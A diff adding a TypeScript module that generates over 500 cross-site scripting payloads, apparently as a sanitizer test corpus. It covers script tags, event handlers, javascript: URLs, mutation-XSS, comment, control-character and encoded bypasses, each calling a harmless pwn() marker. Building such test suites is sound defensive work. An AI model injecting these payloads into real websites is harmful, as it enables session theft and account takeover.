@@ -1,0 +1,316 @@
+/** Each payload calls `pwn()` where a browser runs it. Families of attacks, multiplied by the ways to write them. */
+export interface Payload {
+  readonly family: string
+  readonly html: string
+}
+
+const times = <A, B>(left: readonly A[], right: readonly B[], join: (a: A, b: B) => string): string[] =>
+  left.flatMap((a) => right.map((b) => join(a, b)))
+
+const entities = (text: string, style: (code: number) => string): string =>
+  Array.from(text, (character) => style(character.charCodeAt(0))).join('')
+
+const decimal = (text: string): string => entities(text, (code) => `&#${code};`)
+const padded = (text: string): string => entities(text, (code) => `&#${String(code).padStart(7, '0')}`)
+const hex = (text: string): string => entities(text, (code) => `&#x${code.toString(16)};`)
+
+/** What stands between the parts of a tag: HTML's white space, and slashes, which count as such. */
+const GAPS = [' ', '\t', '\n', '\f', '\r', '/', ' / ', '//', '\r\n', ' x ']
+
+const SCRIPTS = [
+  '<script>pwn()</script>',
+  '<SCRIPT>pwn()</SCRIPT>',
+  '<ScRiPt>pwn()</sCrIpT>',
+  '<script >pwn()</script >',
+  '<script/>pwn()</script/>',
+  '<script\n>pwn()</script\n>',
+  '<script x>pwn()</script>',
+  '<script type="text/javascript">pwn()</script>',
+  '<script type=module>pwn()</script>',
+  '<script src="data:text/javascript,pwn()"></script>',
+  '<script>pwn()',
+  '<script>pwn()//',
+  '<script>pwn()</script',
+  '<script>pwn()</script foo="bar">',
+  '<script a=">">pwn()</script>',
+  "<script a='>'>pwn()</script>",
+  '<script a=">" b=\'>\'>pwn()</script>',
+  '<script a=`>`>pwn()</script>',
+  '<script =">">pwn()</script>',
+  '<script a= ">">pwn()</script>',
+  '<script><!--\npwn()//--></script>',
+  '<script><!--<script></script>--></script><script>pwn()</script>',
+  '<script>/*<script>*/pwn()/*</script>*/</script>',
+  '<script>`</script><script>pwn()</script>`',
+]
+
+const HANDLED = [
+  ['img src=x', 'onerror'],
+  ['img src=data:', 'onerror'],
+  ['image src=x', 'onerror'],
+  ['svg', 'onload'],
+  ['body', 'onload'],
+  ['body', 'onpageshow'],
+  ['video src=x', 'onerror'],
+  ['audio src=x', 'onerror'],
+  ['input autofocus', 'onfocus'],
+  ['select autofocus', 'onfocus'],
+  ['textarea autofocus', 'onfocus'],
+  ['button autofocus', 'onfocus'],
+  ['details open', 'ontoggle'],
+  ['iframe', 'onload'],
+  ['iframe srcdoc=x', 'onload'],
+  ['object data=x', 'onerror'],
+  ['embed src=x', 'onerror'],
+  ['marquee', 'onstart'],
+  ['link rel=stylesheet href=x', 'onerror'],
+  ['style', 'onload'],
+  ['script src=x', 'onerror'],
+  ['div tabindex=0 autofocus', 'onfocus'],
+  ['b tabindex=0 autofocus', 'onfocus'],
+  ['a href=# autofocus', 'onfocus'],
+  ['p contenteditable autofocus', 'onfocus'],
+  ['x-custom tabindex=1 autofocus', 'onfocus'],
+  ['b style=animation-name:x', 'onanimationstart'],
+  ['source srcset=x', 'onerror'],
+  ['frameset', 'onload'],
+  ['track src=x', 'onerror'],
+] as const
+
+const URLS = [
+  'javascript:pwn()',
+  'JaVaScRiPt:pwn()',
+  ' javascript:pwn()',
+  '\tjavascript:pwn()',
+  'java\tscript:pwn()',
+  'java\nscript:pwn()',
+  '\x01javascript:pwn()',
+  'java&Tab;script:pwn()',
+  'javascript&colon;pwn()',
+  'javascript://%0apwn()',
+  'data:text/html,<script>parent.pwn()</script>',
+  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=',
+  'vbscript:pwn()',
+  decimal('javascript:pwn()'),
+  padded('javascript:pwn()'),
+  hex('javascript:pwn()'),
+]
+
+const URL_HOLDERS: readonly ((url: string) => string)[] = [
+  (url) => `<a href="${url}" class=go>x</a>`,
+  (url) => `<a href='${url}' class=go>x</a>`,
+  (url) => `<iframe src="${url}"></iframe>`,
+  (url) => `<form action="${url}"><input type=submit class=go></form>`,
+  (url) => `<button formaction="${url}" form=f class=go>x</button>`,
+  (url) => `<object data="${url}"></object>`,
+  (url) => `<embed src="${url}">`,
+  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
+  (url) => `<svg><a xlink:href="${url}" class=go><text>x</text></a></svg>`,
+  (url) => `<math><a xlink:href="${url}" class=go>x</a></math>`,
+]
+
+/** Tags that reassemble when a filter takes a piece out of their middle, or reads the text once. */
+const NESTED = times(
+  ['script', 'b', 'i', 'x', '!----', '/b', '?x'],
+  [
+    '<scr<@>ipt>pwn()</scr</@>ipt>',
+    '<<@>script>pwn()</script>',
+    '<<@><script>pwn()</script>',
+    '<im<@>g src=x onerror=pwn()>',
+    '<<@>img src=x onerror=pwn()>',
+    '<i<@>mg src=x onerror=pwn()//',
+  ],
+  (tag, html) => html.replaceAll('@', tag),
+)
+
+/** Markup that a parser rewrites: what is text in one context is a tag in the next. */
+const MUTATIONS = [
+  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
+  '<noembed><p title="</noembed><img src=x onerror=pwn()>">',
+  '<noframes><p title="</noframes><img src=x onerror=pwn()>">',
+  '<xmp><p title="</xmp><img src=x onerror=pwn()>">',
+  '<iframe><p title="</iframe><img src=x onerror=pwn()>">',
+  '<title><p title="</title><img src=x onerror=pwn()>">',
+  '<textarea><p title="</textarea><img src=x onerror=pwn()>">',
+  '<style><p title="</style><img src=x onerror=pwn()>">',
+  '<plaintext><img src=x onerror=pwn()>',
+  '<xmp><img src=x onerror=pwn()></xmp>',
+  '<svg><style><img src=x onerror=pwn()></style></svg>',
+  '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
+  '<math></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn()&gt;">',
+  '<math><mtext><table><mglyph><style><math><img src=x onerror=pwn()></style>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>',
+  '<svg><desc><table><svg><style><a title="</style><img src=x onerror=pwn()>">',
+  '<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>',
+  '<svg><title><img src=x onerror=pwn()></title></svg>',
+  '<svg><![CDATA[><img src=x onerror=pwn()>]]></svg>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>',
+  '<table><td><select><option><img src=x onerror=pwn()></option></select></td></table>',
+  '<select><template><img src=x onerror=pwn()></template></select>',
+  '<template shadowrootmode=open><img src=x onerror=pwn()></template>',
+  '<div><template shadowrootmode=open><script>pwn()</script></template></div>',
+  '<p><svg><p><img src=x onerror=pwn()>',
+  '<a><a><img src=x onerror=pwn()></a></a>',
+  '<option><style></option></select><b><img src=x onerror=pwn()></style></option>',
+  '<listing>&lt;img src=x onerror=pwn()&gt;</listing>',
+  '<b><p></b><img src=x onerror=pwn()></p>',
+]
+
+const VECTORS = [
+  '<svg><script>pwn()</script></svg>',
+  '<svg><script>pwn&#40;&#41;</script></svg>',
+  '<svg><script>/*&lt;!--*/pwn()</script></svg>',
+  '<svg><script href="data:,pwn()"></script></svg>',
+  '<svg><script xlink:href="data:,pwn()"></script></svg>',
+  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
+  '<svg><set onbegin=pwn() attributeName=x dur=1s>',
+  '<svg><a><animate attributeName=href values=javascript:pwn() /><text class=go>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#x"></use></svg>',
+  '<svg xmlns="http://www.w3.org/2000/svg"><g onload="pwn()"></g></svg>',
+  '<math><maction actiontype="statusline#javascript:pwn()">x</maction></math>',
+  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
+  '<iframe srcdoc="&lt;script&gt;parent.pwn()&lt;/script&gt;"></iframe>',
+  '<style>@import "javascript:pwn()";</style>',
+  '<style>*{background:url(javascript:pwn())}</style><img src=x onerror=pwn()>',
+  '<base href="javascript:pwn()//"><a href=# class=go>x</a>',
+  '<link rel=import href="data:text/html,<script>pwn()</script>">',
+  '<isindex type=image src=x onerror=pwn()>',
+  '<bgsound src="javascript:pwn()">',
+  '<layer src="javascript:pwn()"></layer>',
+  '<keygen autofocus onfocus=pwn()>',
+  '<?xml version="1.0"?><script>pwn()</script>',
+  '<?php echo 1 ?><img src=x onerror=pwn()>',
+  '<!doctype html><script>pwn()</script>',
+  '<!DOCTYPE x [<!ENTITY y "<script>pwn()</script>">]>&y;',
+  '</script><script>pwn()</script>',
+  '</title><script>pwn()</script>',
+  '</textarea><img src=x onerror=pwn()>',
+  '"><script>pwn()</script>',
+  "'><script>pwn()</script>",
+  '`><script>pwn()</script>',
+  '--><script>pwn()</script>',
+  ']]><script>pwn()</script>',
+  '" autofocus onfocus=pwn() x="',
+  "' autofocus onfocus=pwn() x='",
+  '<img src="x` `<script>pwn()</script>"` `>',
+  '<img src=\'x\' onerror="pwn()"',
+  '<img src=x onerror=pwn()',
+  '<img src=x onerror=pwn()//',
+  '<img src="x" onerror="pwn()" "',
+  '<img/src=x/onerror=pwn()>',
+  '<img src=x onerror\n=\npwn()>',
+  '<img src=x onerror="&#112;wn()">',
+  '<img src=x onerror=\u0070wn()>',
+  '<img src=x:x onerror=eval(atob`cHduKCk=`)>',
+  '<img """><script>pwn()</script>">',
+  '<img title="<script>" src=x onerror=pwn()>',
+  '<a title=">" href=x><img src=x onerror=pwn()>',
+  '<a b=c="d>e"><img src=x onerror=pwn()>',
+  "<a b='><img src=x onerror=pwn()>",
+  '<a b="><img src=x onerror=pwn()>',
+]
+
+const COMMENTS = times(
+  [
+    '<!-->',
+    '<!--->',
+    '<!---->',
+    '<!--x-->',
+    '<!--x--!>',
+    '<!-- -- -->',
+    '<!-->-->',
+    '<!--[if IE]>',
+    '<![endif]-->',
+    '<!>',
+    '<!x>',
+    '<!--\n-->',
+    '</ >',
+    '</x y>',
+    '<?>',
+    '<![CDATA[',
+    '<!--a--><!--b',
+    '<%',
+    '<!-- --!>',
+  ],
+  ['<script>pwn()</script>', '<img src=x onerror=pwn()>', '--><img src=x onerror=pwn()>'],
+  (comment, html) => comment + html,
+)
+
+/** Characters that a filter and a browser, or a database, may see differently. */
+const ODD = [
+  '\0',
+  '\x01',
+  '\x08',
+  '\x0b',
+  '\x0e',
+  '\x1f',
+  '\x7f',
+  '\x80',
+  '\x85',
+  '\u00a0',
+  '\u00ad',
+  '\u200b',
+  '\u2028',
+  '\ufeff',
+  '\ufffd',
+  '\ud800',
+]
+const CONTROLS = times(
+  ODD,
+  [
+    '<@script>pwn()</script>',
+    '<scr@ipt>pwn()</scr@ipt>',
+    '<script@>pwn()</script>',
+    '<img src=x onerror@=pwn()>',
+    '<img@src=x@onerror=pwn()>',
+    '@<img src=x onerror=pwn()>',
+  ],
+  (odd, html) => html.replaceAll('@', odd),
+)
+
+const ENCODED = [
+  '&lt;script&gt;pwn()&lt;/script&gt;',
+  '&#60;script&#62;pwn()&#60;/script&#62;',
+  '&#x3c;script&#x3e;pwn()&#x3c;/script&#x3e;',
+  '&#0000060script&#0000062pwn()',
+  '&LT;script&GT;pwn()&LT;/script&GT;',
+  '&amp;lt;script&amp;gt;pwn()',
+  '%3Cscript%3Epwn()%3C/script%3E',
+  '%253Cscript%253Epwn()%253C/script%253E',
+  '\\x3cscript\\x3epwn()\\x3c/script\\x3e',
+  '\\u003cscript\\u003epwn()',
+  '+ADw-script+AD4-pwn()+ADw-/script+AD4-',
+  '\uff1cscript\uff1epwn()\uff1c/script\uff1e',
+  '\u2039script\u203apwn()\u2039/script\u203a',
+  '\u3008script\u3009pwn()',
+  '\ufe64script\ufe65pwn()',
+  '\xbcscript\xbepwn()\xbc/script\xbe',
+  '<\u017fcript>pwn()</\u017fcript>',
+  '<\u0131mg src=x onerror=pwn()>',
+  '<\u212abd onfocus=pwn() autofocus tabindex=0>',
+  '<img src=x onerror=&#x70;&#x77;&#x6e;()>',
+  '&lt;img src=x onerror=pwn()&gt;<img src=x onerror=pwn()>',
+]
+
+/** Every family, at least 500 payloads in all. */
+export const payloads: readonly Payload[] = Object.entries({
+  script: SCRIPTS,
+  handler: HANDLED.flatMap(([tag, event]) => [
+    `<${tag} ${event}=pwn()>`,
+    `<${tag} ${event.toUpperCase()}="pwn()">`,
+    `<${tag.toUpperCase()} ${event}='pwn()' x="<">`,
+  ]),
+  gap: times(
+    GAPS,
+    ['<img@src=x@onerror=pwn()>', '<svg@onload=pwn()>', '<script@>pwn()</script>', '<b@onclick=pwn()@class=go>x</b>'],
+    (gap, html) => html.replaceAll('@', gap),
+  ),
+  url: times(URL_HOLDERS, URLS, (hold, url) => hold(url)),
+  nested: NESTED,
+  mutation: MUTATIONS,
+  vector: VECTORS,
+  comment: COMMENTS,
+  control: CONTROLS,
+  encoded: ENCODED,
+}).flatMap(([family, list]) => list.map((html) => ({ family, html })))
